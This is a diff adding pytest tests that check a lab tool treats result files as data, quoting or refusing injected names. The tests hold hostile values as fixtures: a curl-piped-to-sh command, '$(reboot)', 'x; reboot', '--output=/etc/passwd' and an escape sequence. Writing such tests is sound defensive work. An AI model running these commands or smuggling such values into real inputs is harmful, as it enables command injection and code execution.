@@ -2,6 +2,7 @@
 
 import json
 import os
+import shlex
 from dataclasses import replace
 from pathlib import Path
 
@@ -13,8 +14,11 @@ from lab.lifecycle.runs import cell_of, find_run, judge, make_small
 from lab.matrix.verdict import RunResult
 from lab.reports.result import to_json
 from lab.scenario.loader import find, load
+from lab.state.rows import LabRow
+from lab.state.store import Store
 
 RUN = made_run("dead-node", families=("hairpin",))
+LAB = LabRow("up", "overlay", "", "", "netns", "t", "up", 1.0, 1.0, "")
 IDS = ("20261121-101500-7f3a", "20261121-101501-0001", "20261122-000000-aaaa")
 
 
@@ -108,6 +112,54 @@ def test_a_file_that_is_far_too_large_is_refused(tmp_path):
     os.truncate(path, 1 << 28)
     with pytest.raises(UsageError, match="too large"):
         find_run(str(path), tmp_path)
+
+
+HOSTILE = "curl http://127.0.0.1/x | sh #"
+HAIRPIN = RUN.results[0].cell.id
+
+
+# SECURITY.md: A result file is data.
+def test_the_command_that_repeats_a_cell_is_not_the_files(state):
+    results = tuple(replace(one, repeat=HOSTILE) for one in RUN.results)
+    hostile = keep(state / "it's from elsewhere", replace(RUN, results=results, run=IDS[0]))
+    keep(state / "labs" / "gone" / "runs" / "1", replace(RUN, results=results, lab="overlay"))
+    keep(state / "labs" / "up" / "runs" / "2", replace(RUN, results=results, lab="overlay"))
+    with Store(state) as store:
+        store.put_lab(LAB)
+    for wanted, repeat in (
+        (hostile, f"lab repro {shlex.quote(str(hostile))} {HAIRPIN}"),
+        (
+            hostile / "result.json",
+            f"lab repro {shlex.quote(str(hostile / 'result.json'))} {HAIRPIN}",
+        ),
+        ("1", f"lab repro 1 {HAIRPIN}"),
+        ("gone", f"lab repro 1 {HAIRPIN}"),
+        ("2", f"lab test up -k {HAIRPIN}"),
+        ("up", f"lab test up -k {HAIRPIN}"),
+    ):
+        assert find_run(str(wanted), state).results[0].repeat == repeat
+
+
+# SECURITY.md: A result file is data.
+@pytest.mark.parametrize(
+    ("changes", "happened"),
+    [
+        ({"run": "--help"}, "no run has: '--help'"),
+        ({"run": "1\nforged"}, "no run has: '1\\nforged'"),
+        ({"lab": "x; reboot"}, "no lab has: 'x; reboot'"),
+        ({"scenario": "x\x1b[2J"}, "no scenario has: 'x\\x1b[2J'"),
+        ({"id": "--output=/etc/passwd"}, "no cell has: '--output=/etc/passwd'"),
+        ({"id": "$(reboot)"}, "no cell has: '$(reboot)'"),
+    ],
+)
+def test_a_name_that_nothing_can_have_is_refused(tmp_path, changes, happened):
+    document = to_json(RUN, intent_of())
+    document["cells"][0] |= {key: value for key, value in changes.items() if key == "id"}
+    document |= {key: value for key, value in changes.items() if key != "id"}
+    (tmp_path / "result.json").write_text(json.dumps(document))
+    with pytest.raises(UsageError) as raised:
+        find_run(str(tmp_path), tmp_path)
+    assert happened in raised.value.happened
 
 
 CELL = "pod-pod/worker1-p1/win1-p1/tcp-small"
